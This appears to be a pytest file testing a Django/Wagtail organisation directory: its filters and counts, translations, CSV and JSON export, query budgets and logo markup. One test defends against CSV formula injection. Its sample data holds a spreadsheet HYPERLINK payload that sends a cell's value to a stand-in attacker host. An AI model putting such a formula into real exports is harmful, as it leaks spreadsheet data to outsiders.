import csv
import io

import pytest
import wagtail_factories
from bs4 import BeautifulSoup
from django.db import connection
from django.test.utils import CaptureQueriesContext

from involved.choices import College, Status
from tests.helpers import QUERY_BUDGET

from .factories import DirectoryPageFactory, OrganisationFactory

pytestmark = pytest.mark.django_db

URL = "/en/get-involved/members-and-partners/"


@pytest.fixture
def directory(get_involved):
    return DirectoryPageFactory(parent=get_involved)


@pytest.fixture
def organisations(en):
    return [
        OrganisationFactory(name="Agrisoil", college=College.RESEARCH, country="FR", locale=en),
        OrganisationFactory(
            name="Bonn Soils", college=College.NGOS, status=Status.PARTNER, country="DE", locale=en
        ),
        OrganisationFactory(name="Campo Vivo", college=College.NGOS, country="AR", locale=en),
        OrganisationFactory(name="Dakar Terres", college=College.RESEARCH, country="SN", locale=en),
    ]


def names(response):
    soup = BeautifulSoup(response.content, "html.parser")
    return [h.get_text(strip=True) for h in soup.select(".organisation__name")]


def options(response, name):
    """Option label -> text shown, for one filter's drop-down."""
    soup = BeautifulSoup(response.content, "html.parser")
    return [o.get_text(strip=True) for o in soup.select(f"#filter-{name} option")]


def test_filters_narrow_the_list_and_counts_follow_the_other_filters(
    client, directory, organisations
):
    response = client.get(URL, {"college": College.NGOS})
    assert names(response) == ["Bonn Soils", "Campo Vivo"]
    assert "2 organisations" in response.content.decode()
    # Each drop-down counts what choosing its value would give with the other filters kept.
    assert "Research and education (2)" in options(response, "college")
    assert "NGOs and civil society (2)" in options(response, "college")
    assert options(response, "status")[1:3] == [
        "Member of the Forum (1)",
        "Partner (1)",
    ]
    assert "Senegal (0)" not in options(response, "country")
    assert options(response, "country")[1:] == ["Argentina (1)", "Germany (1)"]

    response = client.get(URL, {"college": College.NGOS, "status": Status.PARTNER, "country": "DE"})
    assert names(response) == ["Bonn Soils"]
    assert "1 organisation" in response.content.decode()


def test_counts_are_kept_per_filters_and_follow_each_publication(client, directory, organisations):
    """The total and each filter's counts are kept with the site-wide fragments for the
    filters chosen: a reader who filters sees that choice's counts, and a new organisation
    shows in them at the next request."""
    assert "2 organisations" in client.get(URL, {"college": College.NGOS}).text
    assert "4 organisations" in client.get(URL).text
    with CaptureQueriesContext(connection) as built_again:
        client.get(URL, {"college": College.NGOS})
    assert not [q for q in built_again.captured_queries if "COUNT(" in q["sql"]]

    OrganisationFactory(
        name="Eco Suelos", college=College.NGOS, country="AR", locale=organisations[0].locale
    )

    response = client.get(URL, {"college": College.NGOS})
    assert "3 organisations" in response.text
    assert "NGOs and civil society (3)" in options(response, "college")
    assert options(response, "country")[1:] == ["Argentina (2)", "Germany (1)"]
    assert "5 organisations" in client.get(URL).text


def test_junk_parameters_show_the_whole_list(client, directory, organisations):
    response = client.get(URL, {"college": "aliens", "country": "ZZ", "page": "abc"})
    assert response.status_code == 200
    assert names(response) == ["Agrisoil", "Bonn Soils", "Campo Vivo", "Dakar Terres"]
    assert client.get(URL, {"page": "9999"}).status_code == 200


def test_french_directory_shows_translations_and_untranslated_records(
    client, directory, organisations, fr, translate
):
    translate(directory, fr, {"Members and partners": "Membres et partenaires"})
    translate(organisations[1], fr, {"Bonn Soils": "Sols de Bonn"})
    response = client.get("/fr/get-involved/members-and-partners/", {"college": College.NGOS})
    assert names(response) == ["Campo Vivo", "Sols de Bonn"]
    assert "ONG et société civile (2)" in options(response, "college")
    assert "Allemagne (1)" in options(response, "country")


def test_export_gives_the_filtered_list_in_the_page_language(
    client, directory, organisations, es, translate
):
    translate(directory, es, {"Members and partners": "Miembros y socios"})
    response = client.get(
        "/es/get-involved/members-and-partners/", {"college": College.NGOS, "format": "csv"}
    )
    assert response["Content-Type"].startswith("text/csv")
    assert 'filename="organisations-es.csv"' in response["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert [(r["name"], r["college_label"], r["country_name"]) for r in rows] == [
        ("Bonn Soils", "ONG y sociedad civil", "Alemania"),
        ("Campo Vivo", "ONG y sociedad civil", "Argentina"),
    ]
    assert rows[0]["status"] == "partner"
    assert rows[0]["website"].startswith("https://")

    data = client.get(URL, {"country": "SN", "format": "json"}).json()
    assert data == {
        "organisations": [
            {
                "name": "Dakar Terres",
                "college": "research-education",
                "college_label": "Research and education",
                "status": "member",
                "status_label": "Member of the Forum",
                "country": "SN",
                "country_name": "Senegal",
                "year_joined": 2016,
                "website": organisations[3].website,
            }
        ]
    }


def queries_for(client, url):
    client.get(url)  # warm the per-process caches and create the logos' renditions
    with CaptureQueriesContext(connection) as ctx:
        response = client.get(url)
    assert response.status_code == 200
    return len(ctx.captured_queries), response


def add_organisations(count, en):
    for _ in range(count):
        OrganisationFactory(locale=en, logo=wagtail_factories.ImageFactory())


def test_directory_queries_do_not_grow_with_the_organisations(client, directory, en, fr):
    add_organisations(10, en)
    few, response = queries_for(client, URL)
    assert len(names(response)) == 10

    add_organisations(190, en)
    many, response = queries_for(client, URL)
    assert len(names(response)) == 24
    assert "200 organisations" in response.content.decode()

    assert many == few
    assert few <= QUERY_BUDGET


@pytest.mark.parametrize("language", ["en", "fr"])
def test_export_shows_a_name_that_looks_like_a_formula_as_text(
    client, directory, en, fr, translate, language
):
    translate(directory, fr, {"Members and partners": "Membres et partenaires"})
    OrganisationFactory(name="=1+1", locale=en)
    OrganisationFactory(name='=HYPERLINK("http://evil.example/?d="&A2,"Open")', locale=en)
    url = f"/{language}/get-involved/members-and-partners/"

    rows = list(csv.DictReader(io.StringIO(client.get(url, {"format": "csv"}).content.decode())))

    assert [row["name"] for row in rows] == [
        "'=1+1",
        """'=HYPERLINK("http://evil.example/?d="&A2,"Open")""",
    ]
    # JSON is read by programs, not spreadsheets: the name stays as it is.
    data = client.get(url, {"format": "json"}).json()
    assert data["organisations"][0]["name"] == "=1+1"


def test_logos_are_responsive_pictures_loaded_lazily(client, directory, en):
    OrganisationFactory(
        locale=en, logo=wagtail_factories.ImageFactory(file__width=640, file__height=320)
    )

    html = BeautifulSoup(client.get(URL).content, "html.parser")

    picture = html.select_one(".organisation picture")
    assert [s["type"] for s in picture.find_all("source")] == ["image/avif", "image/webp"]
    logo = picture.img
    assert logo["loading"] == "lazy"
    assert logo["alt"] == ""
    # A sharp logo on high-density screens: twice the displayed size is offered.
    assert "320w" in logo["srcset"] and "160w" in logo["srcset"]
